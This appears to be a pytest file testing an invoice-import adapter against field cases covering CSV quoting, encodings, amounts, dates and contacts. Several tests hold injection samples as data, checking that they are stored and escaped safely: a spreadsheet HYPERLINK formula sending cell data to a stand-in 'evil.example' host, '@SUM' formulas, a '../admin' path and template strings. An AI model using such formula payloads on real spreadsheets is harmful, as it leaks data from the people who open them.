"""Each file of the cases from the field with its right result. They are skipped where the cases are missing."""

from datetime import timedelta
from pathlib import Path

import pytest
from sqlalchemy import select
from sqlmodel import col

from adapters.database.engine import Database
from adapters.database.tables import Task
from adapters.imports.column_mapping import load_mapping
from adapters.imports.importer import Importer
from adapters.imports.open_list import ListNotClosableError
from adapters.imports.sheet import BrokenSheetError
from adapters.ledger.ledger import Ledger
from tests.adapters.imports.field_cases import (
    CASES,
    CASES_DAY,
    count,
    import_file,
    import_text,
    map_with,
    read_invoices,
    read_names,
    read_verdicts,
)
from tests.adapters.ledger.builders import AT, find_unbalanced_invoices, list_event_kinds

pytestmark = pytest.mark.skipif(not CASES.is_dir(), reason=f"the cases from the field are not at {CASES}")


def test_an_unpaired_quotation_mark_rejects_its_row_alone(database: Database) -> None:
    result = import_file(database, CASES / "quote-leak.csv")

    assert count(result) == {"new": 9, "rejected": 1}
    assert [rejected.row for rejected in result.rejected] == [4]
    assert "quotation mark" in result.rejected[0].reason
    assert set(read_invoices(database)) == {f"QX-{n}" for n in range(1, 11)} - {"QX-3"}
    assert read_names(database)["AQX4"] == ("Firma 4 Geheim", "AP", "ap4@x.example")


def test_numbers_are_taken_as_they_are_whatever_they_contain(database: Database) -> None:
    assert count(import_file(database, CASES / "numbers.csv")) == {"new": 13}
    assert {"INV/2013/0042", "RE#7", "2013?x=1", "A B", "Ä-1", "100%", "../admin", "INV\\9", "<b>1</b>", "N;1"} <= set(
        read_invoices(database)
    )


def test_an_address_that_can_never_be_sent_to_is_rejected(database: Database) -> None:
    result = import_file(database, CASES / "emails.csv")

    verdicts = {row: verdict for row, (verdict, _) in read_verdicts(database, result).items()}
    assert [row for row, verdict in verdicts.items() if verdict == "rejected"] == [6, 8, 10]
    assert all(rejected.reason.startswith("email: ") for rejected in result.rejected)
    assert read_names(database)["EM1"][2] == "rechnung@straße.example"


def test_line_breaks_and_tabs_of_names_become_spaces_and_all_else_stays(database: Database) -> None:
    assert count(import_file(database, CASES / "names.csv")) == {"new": 11}
    names = {account: names[:2] for account, names in read_names(database).items()}
    assert names["NA1"] == ("Nord GmbH", "Erika Muster")
    assert names["NA2"] == names["NA4"] == ("Firma", "Erika Muster")
    assert names["NA3"] == ("Nord GmbH Buchhaltung", "AP")
    assert names["NA5"] == ("Firma", 'Meier, "Max" (Einkauf)')
    assert names["NA6"] == ("😀 Fröhlich & Söhne <KG>", "Zoë 😀")
    assert names["NA7"] == ('שלום בע"מ', "דוד כהן")
    assert names["NA8"] == ("N" * 300, "C" * 300)
    assert names["NA9"] == ("{{ 7*7 }} {name} %s", "{{ letter }} {0}")
    assert names["NA10"] == ('=HYPERLINK("http://evil.example","pay")', "@SUM(1+1)")


def test_a_number_that_is_too_long_is_rejected_with_the_limit(database: Database) -> None:
    result = import_file(database, CASES / "long-number.csv")

    assert count(result) == {"new": 1, "rejected": 1}
    assert "has 1,100 characters; at most 100 are taken" in result.rejected[0].reason
    assert len(result.rejected[0].reason) < 250
    behind = import_file(database, CASES / "behind-the-long-one.csv")
    assert set(count(behind)) == {"not_yet_issued"}


def test_amounts_are_read_as_they_were_meant_or_rejected(database: Database) -> None:
    result = import_file(database, CASES / "amounts-point.csv", load_mapping(CASES / "point.yaml"))

    verdicts = read_verdicts(database, result)
    assert len(verdicts) == 34
    taken = {row - 1 for row, (verdict, _) in verdicts.items() if verdict == "new"}
    assert taken == {1, 2, 3, 4, 5, 6, 8, 9, 10, 19, 25}
    assert {row - 1 for row, (verdict, _) in verdicts.items() if verdict == "credited"} == {12, 13, 14, 15}
    assert {row - 1 for row, (verdict, _) in verdicts.items() if verdict == "settled"} == {28, 29}
    assert {invoice.total for number, invoice in read_invoices(database).items() if number not in ("N-28", "N-29")} == {123_450}
    assert "is empty" in verdicts[31][1]
    for row in (34, 35):
        assert "is out of range; one item has at most 100,000,000,000.00 EUR" in verdicts[row][1]
    assert Ledger(database).get_unapplied_credit("AN") == {"EUR": 4 * 123_450}


def test_minor_units_are_those_of_iso_4217(database: Database) -> None:
    assert count(import_file(database, CASES / "rsd.csv")) == count(import_file(database, CASES / "excel-rsd.xlsx")) | {"new": 1}
    totals = {number: (invoice.total, invoice.currency) for number, invoice in read_invoices(database).items()}
    assert totals == {"RS-3": (123_456, "RSD"), "RS-1": (123_456, "RSD"), "RS-2": (1_500_250, "IQD")}


def test_a_file_that_is_not_of_one_encoding_is_refused_with_the_line(database: Database) -> None:
    with pytest.raises(BrokenSheetError, match="line 5 is not UTF-8, yet line 2 is"):
        import_file(database, CASES / "mixed-encoding.csv")
    assert read_invoices(database) == {}


def test_a_time_of_day_is_left_out_and_an_offset_counts_in_the_accounts_zone(database: Database) -> None:
    assert count(import_file(database, CASES / "timestamps.csv")) == {"new": 4}
    due = {number: invoice.due_date.isoformat() for number, invoice in read_invoices(database).items()}
    assert due == {"TS-1": "2013-03-03", "TS-2": "2013-03-04", "TS-3": "2013-03-03", "TS-4": "2013-03-03"}


def test_money_is_taken_though_the_account_contradicts(database: Database) -> None:
    import_file(database, CASES / "merge-1.csv")

    result = import_file(database, CASES / "merge-2.csv", on=CASES_DAY + timedelta(days=7))

    assert count(result) == {"changed": 1}
    assert "belongs to the account 'MG-OLD', not to 'MG-NEW'" in result.warnings[0].warning
    assert list_event_kinds(database)[-1] == ("payment.received", 10_000, "paid")
    assert set(read_names(database)) == {"MG-OLD"}
    with database.reading() as session:
        tasks = session.execute(select(col(Task.kind), col(Task.invoice_id), col(Task.role), col(Task.state))).all()
    assert [tuple(task) for task in tasks] == [("moved_invoice", "MG-1", "collections_manager", "open")]
    assert find_unbalanced_invoices(database) == []


def test_dates_that_cannot_be_counted_with_are_rejected(database: Database) -> None:
    result = import_file(database, CASES / "far-dates.csv")

    assert count(result) == {"new": 2, "rejected": 5}
    assert set(read_invoices(database)) == {"FD-5", "FD-6"}
    assert all("lies outside 1970-01-01 to 2999-12-31" in rejected.reason for rejected in result.rejected)
    assert result.rejected[2].reason.count("lies outside") == 2


def test_an_empty_cell_of_a_contact_clears_it_and_says_so(database: Database) -> None:
    import_file(database, CASES / "contact-1.csv")
    assert read_names(database)["CR"] == ("Firma", "Eva Gegangen", "eva@x.example")

    result = import_file(database, CASES / "contact-2.csv")

    assert read_names(database)["CR"] == ("Firma", "", "")
    assert "email: is empty; what was stored, 'eva@x.example', was cleared" in result.warnings[0].warning


def test_the_same_number_of_two_customers_is_two_invoices(database: Database) -> None:
    for verdict in ("new", "unchanged"):
        assert count(import_file(database, CASES / "same-number-a.csv")) == {verdict: 3}
    invoices = {invoice_id: (invoice.account_id, invoice.number) for invoice_id, invoice in read_invoices(database).items()}
    assert invoices == {"1001": ("SN1", "1001"), "SN2-1001": ("SN2", "1001"), "1002": ("SN1", "1002")}


def test_ids_can_be_made_of_account_and_number(database: Database) -> None:
    assert count(import_file(database, CASES / "same-number-a.csv", load_mapping(CASES / "same-number.yaml"))) == {"new": 3}
    assert set(read_invoices(database)) == {"SN1-1001", "SN2-1001", "SN1-1002"}


def test_a_sep_line_is_obeyed(database: Database) -> None:
    assert count(import_file(database, CASES / "sep-line.csv")) == {"new": 1}
    assert count(import_file(database, CASES / "sep-line.csv", map_with('delimiter: ","'))) == {"unchanged": 1}


def test_rejected_rows_leave_as_no_formulas_and_read_back_right(database: Database, tmp_path: Path) -> None:
    text = (CASES / "formula.csv").read_text(encoding="utf-8").replace("2013-03-03", "soon")
    first = import_text(database, tmp_path, text)
    rejects = b"".join(Importer(database).export_rejected_rows(first.import_id or "").lines)
    assert b'"\'=1+1"' in rejects
    assert b"\"'=HYPERLINK" in rejects
    assert b'"\'@SUM(A1)"' in rejects
    assert b'"-5.00"' in rejects

    again = import_text(database, tmp_path, rejects.replace(b'"soon"', b'"2013-03-03"'))

    assert count(again) == {"credited": 1}
    assert read_names(database)['=HYPERLINK("http://evil.example/?"&A1,"pay")'][:2] == ("@SUM(A1)", "+49 30")
    assert Ledger(database).get_unapplied_credit('=HYPERLINK("http://evil.example/?"&A1,"pay")') == {"EUR": 500}


def test_what_was_overpaid_is_unapplied_credit_until_it_is_used(database: Database) -> None:
    import_file(database, CASES / "overpaid-2.csv")
    Ledger(database).record_payment("P1", "OW", "EUR", 13_000, CASES_DAY, invoice_id="OW-1", at=AT)
    assert count(import_file(database, CASES / "overpaid-3.csv", on=CASES_DAY + timedelta(days=11))) == {"new": 1}
    assert Ledger(database).get_unapplied_credit("OW") == {"EUR": 3_000}
    assert count(import_file(database, CASES / "overpaid.csv")) == {"new": 1, "not_yet_issued": 1}


@pytest.mark.parametrize("part", ["midway-1.csv", "midway-2.csv"])
def test_terms_and_languages_that_change_midway_are_taken(database: Database, part: str) -> None:
    assert "rejected" not in count(import_file(database, CASES / part))


def test_what_a_complete_list_lacks_is_shown_and_closed_once_confirmed(database: Database) -> None:
    import_file(database, CASES / "open-list-1.csv")
    silent = import_file(database, CASES / "open-list-2.csv")
    dry = import_file(database, CASES / "open-list-2.csv", dry_run=True, is_complete=True)
    result = import_file(database, CASES / "open-list-2.csv", is_complete=True)

    assert (silent.missing.count, dry.missing, result.missing.count) == (0, result.missing, 1)
    assert [(invoice.invoice_id, invoice.open_balance) for invoice in result.missing.shown] == [("OL-1", 10_000)]
    importer, day = Importer(database), CASES_DAY
    with pytest.raises(ListNotClosableError, match="1 invoices are missing in the file, not 2"):
        importer.close_missing(result.import_id or "", 2, "manager", day, AT)
    assert importer.close_missing(result.import_id or "", 1, "manager", day, AT) == 1
    assert importer.close_missing(result.import_id or "", 0, "manager", day, AT) == 0
    assert list_event_kinds(database)[-1] == ("payment.received", 10_000, "paid")
    assert find_unbalanced_invoices(database) == []


def test_every_file_of_the_cases_is_tried_here() -> None:
    tried = Path(__file__).read_text(encoding="utf-8")
    assert [file.name for file in CASES.iterdir() if file.suffix in (".csv", ".xlsx") and file.name not in tried] == []
